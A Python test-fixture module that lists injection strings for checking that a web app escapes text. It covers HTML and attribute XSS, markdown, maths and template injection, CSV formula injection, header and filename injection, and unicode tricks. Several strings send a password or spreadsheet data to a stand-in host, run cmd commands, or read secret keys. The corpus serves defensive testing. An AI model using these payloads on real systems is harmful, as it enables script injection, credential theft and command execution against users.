r"""Texts that would do something if a page, a spreadsheet, a mail or a header took them for more than text.

Each is written for a way in which such faults come about. `KIND` says where it would bite:
html: wherever a text reaches a page unescaped · attribute: in the value of an attribute · markdown: in a text that is rendered ·
maths: in a formula · template: where a template is made of a text · csv: in a spreadsheet · header: in a file's name.
Whatever runs calls `xss()`, opens a dialog, or leaves an element that a page of ours never has.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import TypeVar

T = TypeVar("T")


@dataclass(frozen=True)
class Vector:
    """One text, at most 200 characters long, so that it fits into the shortest field."""

    kind: str
    text: str


_HTML = (
    "<script>xss()</script>",
    "<SCRIPT >xss()</SCRIPT >",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    '<script src="data:text/javascript,xss()"></script>',
    "<script type=module>xss()</script>",
    "<script\n>xss()</script\n>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</pre></code><script>xss()</script>",
    "--><script>xss()</script>",
    "<!--><script>xss()</script>-->",
    "</script><script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror=alert(1) x=",
    "<img/src/onerror=xss()>",
    '<img src="x" OnErRoR="&#120;ss()">',
    "<img src=x:x onerror\t=\txss()>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()></select>",
    "<details open ontoggle=xss()><summary>x</summary></details>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()></audio>",
    "<marquee onstart=xss()>x</marquee>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<base href=https://xss.invalid/>",
    '<meta http-equiv=refresh content="0;url=https://xss.invalid/">',
    "<link rel=stylesheet href=https://xss.invalid/x.css>",
    "<style>@import 'https://xss.invalid/x.css'</style>",
    "<style>body{background:url(https://xss.invalid/x)}</style>",
    "<div style=\"background:url('https://xss.invalid/x')\">x</div>",
    "<form action=https://xss.invalid/><input name=password></form>",
    "<a href=javascript:xss()>x</a>",
    "<a href=' &#x6A;avascript:xss()'>x</a>",
    "<a href='java\tscript:xss()'>x</a>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><script xlink:href=data:,xss()></script></svg>",
    "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    "<svg><set onbegin=xss() attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.xss()></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'></use></svg>",
    "<math href=javascript:xss()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    # what a sanitiser and a browser read differently
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<svg></p><style><a id='</style><img src=x onerror=xss()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<template><s><img src=x onerror=xss()></s></template><img src=x onerror=xss()>",
    "<div id=xss class=xss data-xss=1 hx-get=/ hx-trigger=load>x</div>",
    "<div hx-on:load=xss() data-hx-on:load=xss()>x</div>",
)
_ATTRIBUTE = (
    '" onmouseover="xss()" autofocus onfocus="xss()',
    "' onmouseover='xss()' autofocus onfocus='xss()",
    "` onmouseover=`xss()",
    '"><img src=x onerror=xss()>',
    "'><svg/onload=xss()>",
    '" style="position:fixed;inset:0" id="xss',
    "&quot;&gt;&lt;img src=x onerror=xss()&gt;",
    "javascript:xss()",
    "\x01javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "vbscript:xss()",
    "//xss.invalid/x",
    '\\"-xss()//',
)
_MARKDOWN = (
    "[x](javascript:xss())",
    "[x](JaVaScRiPt:xss())",
    "[x](javascript&colon;xss())",
    "[x](java&#10;script:xss())",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](<javascript:xss()>)",
    "[x]: javascript:xss()\n\n[x]",
    "<javascript:xss()>",
    '![x](x"onerror="xss())',
    "![x](javascript:xss())",
    "![x](https://xss.invalid/x.png)",
    '[x](https://example.com "title\\" onmouseover=\\"xss()")',
    '```"><img src=x onerror=xss()>\nx\n```',
    "# <img src=x onerror=xss()> {onload=xss()}",
    "`<script>xss()</script>`",
    "<p markdown=1 onclick=xss()>x</p>",
    "| a |\n|---|\n| <img src=x onerror=xss()> |",
)
_MATHS = (
    "$\\href{javascript:xss()}{x}$",
    "$\\url{javascript:xss()}$",
    "$\\includegraphics{https://xss.invalid/x.png}$",
    "$\\htmlData{xss=1}{x}\\htmlId{xss}{x}\\htmlClass{xss}{x}$",
    "$\\data{xss=1}{x}\\id{xss}{x}\\class{xss}{x}$",
    "$\\htmlStyle{background:url(https://xss.invalid/x)}{x}$",
    "$\\style{background:url(https://xss.invalid/x)}{x}$",
    "$\\text{<img src=x onerror=xss()>}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\unicode{x3C}script>xss()$",
)
_TEMPLATE = (
    "{{ 7|add:7 }}{{ request.user.password }}",
    "{% load static %}{% include 'base.html' %}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}#{xss()}<%= xss() %>",
    "{{7*7}}[[7*7]]",
)
_UNICODE = (
    "＜script＞xss()＜/script＞",
    "<ſcript>xss()</ſcript>",
    "\u202e<tpircs>xss()</tpircs>",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\ufeff<script>xss()</script>",
    "%3Cscript%3Exss()%3C/script%3E",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "\u2028<script>xss()</script>\u2029",
)
_CSV = (
    '=HYPERLINK("https://xss.invalid/"&A1,"x")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    '";=1+1;"',
    '",=1+1,"',
)
_HEADER = (
    "x.py\r\nSet-Cookie: xss=1",
    "x.py\nContent-Type: text/html\n\n<script>xss()</script>",
    'x".py"; filename="xss.html',
    "x.py%0d%0aSet-Cookie:%20xss=1",
    "../../x.html",
    "x.html\u202eyp.",
    "x.py; filename*=UTF-8''xss.html",
)
_NULL = ("<scr\0ipt>xss()</scr\0ipt>", "javascript\0:xss()", "x\0<img src=x onerror=xss()>")

CORPUS: tuple[Vector, ...] = tuple(
    Vector(kind, text)
    for kind, texts in {
        "html": _HTML,
        "attribute": _ATTRIBUTE,
        "markdown": _MARKDOWN,
        "maths": _MATHS,
        "template": _TEMPLATE,
        "unicode": _UNICODE,
        "csv": _CSV,
        "header": _HEADER,
        "null": _NULL,
    }.items()
    for text in texts
)
# what a database of either kind stores: PostgreSQL takes no null bytes
STORABLE = tuple(vector.text for vector in CORPUS if "\0" not in vector.text)


def some(listed: Sequence[T]) -> Sequence[T]:
    """A quarter of what has a page for each text, another one each day: such pages differ in the text alone, and all take minutes."""
    return listed[datetime.now(UTC).toordinal() % 4 :: 4]
